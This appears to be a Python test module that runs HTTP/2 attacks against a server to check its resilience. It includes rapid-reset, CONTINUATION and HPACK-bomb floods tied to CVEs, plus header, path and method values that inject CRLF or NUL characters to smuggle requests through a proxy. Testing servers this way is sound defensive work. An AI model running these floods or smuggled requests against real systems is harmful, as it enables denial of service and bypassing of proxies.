"""Floods, bombs and malformed messages over HTTP/2 (RFC 9113).

A flood holds when the server ends it, or takes no more of it, before all was sent. Honest clients are served meanwhile.
"""

from harness import http2 as h2
from harness.attack import HTTP2, PROXY, STATIC, attack, brief, each, require

# What a malformed request is refused with, where its stream is not reset.
REFUSALS = (400, 405, 411, 413, 414, 431, 501)

# Far more than an honest client ever needs, and a few seconds of sending.
TURNS = 40_000


def stopped(count):
    require(count is not None, f"all of {TURNS} turns were taken")
    return f"stopped after {count} turns"


def flood(target, make, pairs=(), turns=TURNS, **how):
    """Floods one connection with what `make(peer, turn)` returns."""
    with target.h2(*pairs, keeps_bodies=False, **how) as peer:
        return stopped(peer.flood(turns, lambda turn: make(peer, turn)))


def number(turn):
    return 2 * turn + 1


def get(turn, path="/large.bin", fields=()):
    return h2.headers(number(turn), h2.request_fields(path, fields=fields))


@attack("Rapid reset", "CVE-2023-44487", [HTTP2])
def rapid_reset(target):
    return flood(target, lambda peer, turn: get(turn) + h2.reset(number(turn)))


@attack("Rapid reset of requests to an origin", "CVE-2023-44487", [HTTP2, PROXY])
def rapid_reset_of_proxied_requests(target):
    token = target.token()
    evidence = flood(target, lambda peer, turn: get(turn, f"/api/{token}") + h2.reset(number(turn)), turns=20_000)
    return f"{evidence}; {len(target.origin.seen(token))} reached the origin"


@attack("Resets that the server is made to send", "CVE-2025-8671", [HTTP2])
def made_resets(target):
    mistakes = {
        "window update of 0": lambda stream: h2.window_update(stream, 0),
        "window past its end": lambda stream: h2.window_update(stream, h2.MOST_WINDOW),
        "data after the end": lambda stream: h2.frame(h2.DATA, 0, stream, b"x"),
        "dependency on itself": lambda stream: h2.priority(stream, stream, 1),
        "malformed fields": None,
    }
    found = []
    for name, mistake in mistakes.items():
        def make(peer, turn, mistake=mistake):
            if mistake is None:
                return get(turn, "/", [("connection", "close")])
            return get(turn) + mistake(number(turn))
        with target.h2(keeps_bodies=False) as peer:
            count = peer.flood(TURNS, lambda turn: make(peer, turn), seconds=12)
        require(count is not None, f"{name}: all of {TURNS} were taken")
        found.append(str(count))
    return f"stopped after {', '.join(found)} turns"


@attack("Streams opened faster than they are served", "CVE-2019-9517, RFC 9113 section 5.1.2", [HTTP2])
def streams_without_end(target):
    return flood(target, lambda peer, turn: get(turn), [(h2.INITIAL_WINDOW_SIZE, 0)])


@attack("Field blocks without end", "CVE-2024-27316, CVE-2023-45288", [HTTP2])
def continuation_flood(target):
    start = h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.block(h2.request_fields("/")))
    large = h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x", "y" * 16_000))
    return flood(target, lambda peer, turn: large if turn else start, turns=20_000)


@attack("Empty CONTINUATION frames without end", "RUSTSEC-2024-0332", [HTTP2])
def empty_continuations(target):
    start = h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.block(h2.request_fields("/")))
    return flood(target, lambda peer, turn: h2.frame(h2.CONTINUATION, 0, 1) * 10 if turn else start)


@attack("Compression bomb by size", "CVE-2016-6581", [HTTP2])
def hpack_bomb(target):
    fields = h2.block(h2.request_fields("/"))
    fill = fields + h2.literal("x", "y" * 3900, 0x40)
    bomb = fields + b"\xbe" * 15_000
    return flood(target, lambda peer, turn: h2.headers(number(turn), bomb if turn else fill), turns=5_000)


@attack("Compression bomb by count, held by a window of 0", "CVE-2026-49975", [HTTP2, STATIC])
def hpack_bomb_by_count(target):
    fields = h2.block(h2.request_fields("/large.bin"))
    fill, bomb = fields + h2.literal("cookie", "", 0x40), fields + b"\xbe" * 800
    peers = [target.h2((h2.INITIAL_WINDOW_SIZE, 0)) for _ in range(20)]
    for peer in peers:
        for turn in range(120):
            peer.send(h2.headers(number(turn), bomb if turn else fill))
        peer.next_stream = number(120)
    for peer in peers:
        peer.settle()
    target.assert_serves()
    for peer in peers:
        peer.socket.close()
    return "20 connections of 120 streams of 800 fields"


@attack("Zero-length field names", "CVE-2019-9516", [HTTP2])
def empty_names(target):
    fields = h2.block(h2.request_fields("/")) + h2.literal("", "", 0x40) + b"\xbe" * 200
    return flood(target, lambda peer, turn: h2.headers(number(turn), fields))


@attack("PING flood", "CVE-2019-9512", [HTTP2])
def ping_flood(target):
    return flood(target, lambda peer, turn: h2.frame(h2.PING, 0, 0, b"12345678") * 4)


@attack("SETTINGS flood", "CVE-2019-9515", [HTTP2])
def settings_flood(target):
    return flood(target, lambda peer, turn: h2.settings((h2.ENABLE_PUSH, 0)) * 4)


@attack("Frames that have to be acknowledged to a client that reads nothing", "CVE-2019-9512, CVE-2019-9517", [HTTP2])
def unread_acknowledgements(target):
    pings = h2.frame(h2.PING, 0, 0, b"12345678") * 4000
    with target.h2() as peer:
        peer.pump(0.1)
        # It writes without reading, more than the buffers of both sockets take.
        peer._read = lambda: None
        for _ in range(150):
            peer.send(pings)
            peer.wait(lambda: len(peer.outgoing) < 1 << 18, 3)
            if peer.closed or len(peer.outgoing) >= 1 << 18:
                return f"stopped with {len(peer.outgoing) >> 10} KB unsent"
    require(False, "600,000 were taken and acknowledged")


@attack("PRIORITY flood", "CVE-2019-9513", [HTTP2])
def priority_flood(target):
    return flood(target, lambda peer, turn: b"".join(
        h2.priority(2 * ((turn + step) % 1000) + 3, 0, turn % 256) for step in range(10)))


@attack("Empty DATA frames", "CVE-2019-9518", [HTTP2])
def empty_data(target):
    start = h2.headers(1, h2.request_fields("/", "POST"), end=False)
    return flood(target, lambda peer, turn: h2.frame(h2.DATA, 0, 1) * 10 if turn else start)


def flood_of_reset_stream(target, frames):
    with target.h2() as peer:
        peer.send(h2.headers(1, h2.request_fields("/", "POST", [("connection", "close")]), end=False))
        peer.wait(lambda: 1 in peer.streams and (peer.streams[1].ended or peer.ended))
        return stopped(peer.flood(TURNS, lambda turn: frames))


@attack("Empty DATA on a stream that the server reset", "RFC 9113 section 5.1", [HTTP2])
def data_on_a_reset_stream(target):
    return flood_of_reset_stream(target, h2.frame(h2.DATA, 0, 1) * 10)


@attack("HEADERS on a stream that the server reset", "RFC 9113 section 5.1", [HTTP2])
def headers_on_a_reset_stream(target):
    return flood_of_reset_stream(target, h2.headers(1, b"") * 10)


@attack("Frames of unknown types", "RFC 9113 section 4.1", [HTTP2])
def unknown_frames(target):
    return flood(target, lambda peer, turn: h2.frame(0xBE, 0, 0) * 10)


@attack("Window updates of one byte", "CVE-2019-9511", [HTTP2])
def window_updates(target):
    return flood(target, lambda peer, turn: h2.window_update(0, 1) * 10)


@attack("A body fetched byte by byte", "CVE-2019-9511", [HTTP2, STATIC])
def one_byte_windows(target):
    with target.h2((h2.INITIAL_WINDOW_SIZE, 1), opens_windows=False, keeps_bodies=False) as peer:
        peer.open(h2.request_fields("/large.bin"))
        for fetched in range(4000):
            if not peer.wait(lambda: peer.streams[1].body_bytes > fetched or peer.streams[1].ended or peer.ended, 3):
                return f"after {fetched} bytes none came any more"
            if peer.ended or peer.streams[1].ended:
                return f"stopped after {fetched} bytes"
            peer.send(h2.window_update(1, 1))
    require(False, "4,000 frames of one byte were sent")


@attack("A window beyond its maximum, and settings that overflow it", "RFC 9113 section 6.9", [HTTP2])
def window_overflow(target):
    cases = {
        "the connection's window": h2.window_update(0, h2.MOST_WINDOW),
        "an increment of 0": h2.window_update(0, 0),
        "a setting past 2^31": h2.settings((h2.INITIAL_WINDOW_SIZE, 1 << 31)),
        "DATA on stream 0": h2.frame(h2.DATA, 0, 0, b"x"),
        "a stream of the server's": h2.headers(2, h2.request_fields("/")),
        "a frame larger than allowed": h2.frame(h2.DATA, 0, 1, b"x" * 20_000),
        "PUSH_PROMISE of a client": h2.frame(h2.PUSH_PROMISE, 4, 1, b"\0\0\0\2"),
        "CONTINUATION without HEADERS": h2.frame(h2.CONTINUATION, 4, 1, b""),
        "an index that is not there": h2.headers(1, b"\xff\xff\x03"),
    }

    def judge(name):
        with target.h2() as peer:
            peer.settle()
            peer.send(cases[name])
            peer.settle()
            return None if peer.ended else "the connection goes on"

    return each(list(cases), lambda names: target.judge_each(names, judge))


@attack("Large responses to a client that reads nothing", "CVE-2019-9517", [HTTP2, STATIC])
def unread_responses(target):
    peers = []
    for _ in range(10):
        peer = target.h2((h2.INITIAL_WINDOW_SIZE, h2.MOST_WINDOW), opens_windows=False, keeps_bodies=False)
        peer.pump(0.1)
        peer._read = lambda: None
        peer.send(h2.window_update(0, 0x7FFF0000) + b"".join(get(turn) for turn in range(100)))
        peers.append(peer)
    target.assert_serves()
    for peer in peers:
        for _ in range(20):
            peer.pump(0.01)
    target.assert_serves()
    for peer in peers:
        peer.socket.close()
    return "10 connections of 100 responses of 4 MB"


def malformed(target, cases):
    """Each case is a list of fields that must never become a request to the origin as it is."""

    def judge(case):
        token = target.token()
        fields = [(name.replace("TOKEN", token), value.replace("TOKEN", token)) for name, value in case]
        with target.h2() as peer:
            stream = peer.respond(peer.open(fields), 3)
        if target.origin.complaints(token):
            return f"reached the origin as it is: {target.origin.complaints(token)[0]}"
        seen = target.origin.seen(token)
        if seen:
            return f"became {brief(seen[0].head, 60)}"
        # Any other status is a response to a request that was taken for a good one.
        return f"status {stream.status}" if stream.status not in (None, *REFUSALS) else None

    return each(cases, lambda cases: target.judge_each(cases, judge))


def fields(*more, path="/api/TOKEN", method="GET"):
    return [*h2.request_fields(path, method), *more]


@attack("Fields that become lines of HTTP/1.1", "RFC 9113 section 8.2.1, CVE-2023-25690", [HTTP2, PROXY])
def lines_of_http1(target):
    return malformed(target, [
        fields(("x", "a\r\nX-Role: TOKEN")), fields(("x", "a\nX-Role: TOKEN")), fields(("x", "a\rb")), fields(("x", "a\0b")),
        fields(("x\r\nX-Role", "TOKEN")), fields(("x: y\r\nz", "TOKEN")), fields(("x y", "TOKEN")), fields(("x:", "TOKEN")),
        fields(("X-Upper", "TOKEN")), fields(("", "TOKEN")), fields(("x\xff", "TOKEN")),
        fields(path="/api/TOKEN HTTP/1.1\r\nHost: localhost\r\n\r\nGET /api/TOKEN-2"), fields(path="/api/TOKEN\r\nx: y"),
        fields(path="/api/TOKEN x"), fields(path="/api/TOKEN\0"), fields(path="api/TOKEN"), fields(path=""), fields(path="*"),
        fields(method="GET /api/TOKEN HTTP/1.1\r\nX: y\r\n\r\nGET"), fields(method="G T"), fields(method=""),
    ])


@attack("Fields that belong to one connection", "RFC 9113 section 8.2.2, CVE-2021-21295", [HTTP2, PROXY])
def connection_fields(target):
    return malformed(target, [
        fields(("transfer-encoding", "chunked")), fields(("connection", "close")), fields(("upgrade", "websocket")),
        fields(("keep-alive", "1")), fields(("proxy-connection", "close")), fields(("te", "gzip")),
        fields(("content-length", "1")), fields(("content-length", "+0")), fields(("content-length", "0"), ("content-length", "5")),
        fields(("host", "evil")),
    ])


@attack("Pseudo-header fields that are missing, repeated, unknown or after others", "RFC 9113 section 8.3", [HTTP2, PROXY])
def pseudo_fields(target):
    whole = h2.request_fields("/api/TOKEN")
    regular = ("x", "y")
    return malformed(target, [
        [whole[0], whole[1], whole[3], regular, whole[2]],
        [whole[0], whole[1], regular, whole[2], whole[3]],
        [whole[0], whole[1], whole[3], regular, (":authority", "evil")],
        [whole[1], whole[2], regular, whole[3], whole[0]],
        whole[:3], [whole[0], *whole[2:]], whole[1:], [*whole, (":path", "/api/TOKEN-2")], [*whole, (":method", "POST")],
        [*whole, (":authority", "evil")], [*whole, (":x", "y")], [*whole, (":status", "200")], [*whole, (":protocol", "websocket")],
        [whole[0], (":scheme", "https\r\nx: y"), *whole[2:]], [*whole[:2], (":authority", "a b"), whole[3]],
        [*whole[:2], (":authority", "user@localhost"), whole[3]], [*whole[:2], (":authority", "local\0host"), whole[3]],
    ])


@attack("Bodies whose length is not the declared one", "RFC 9113 section 8.1.1", [HTTP2, PROXY])
def body_lengths(target):
    def judge(case):
        said, sent = case
        token = target.token()
        with target.h2() as peer:
            stream = peer.fetch(f"/api/{token}", [("content-length", said)], "POST", b"x" * sent)
        seen = [request for request in target.origin.seen(token) if str(len(request.body)) != said]
        if target.origin.complaints(token) or seen:
            return "reached the origin"
        if stream.status == 200:
            return "was taken"
        return None

    return each([("5", 6), ("5", 4), ("0", 1), ("1", 0), ("100000", 99_999)], lambda cases: target.judge_each(cases, judge))


@attack("Trailers with pseudo-header fields or fields of the connection", "RFC 9113 section 8.1", [HTTP2, PROXY])
def trailers(target):
    def judge(case):
        token = target.token()
        with target.h2() as peer:
            stream = peer.open(h2.request_fields(f"/api/{token}", "POST"), end=False)
            peer.send(h2.frame(h2.DATA, 0, stream, b"body") + h2.headers(stream, [case]))
            found = peer.respond(stream, 3)
        if found.status == 200:
            return "was taken"
        return "reached the origin" if target.origin.complaints(token) else None

    cases = [(":path", "/evil"), (":method", "GET"), ("transfer-encoding", "chunked"), ("connection", "x"), ("x", "a\r\nb")]
    return each(cases, lambda cases: target.judge_each(cases, judge))
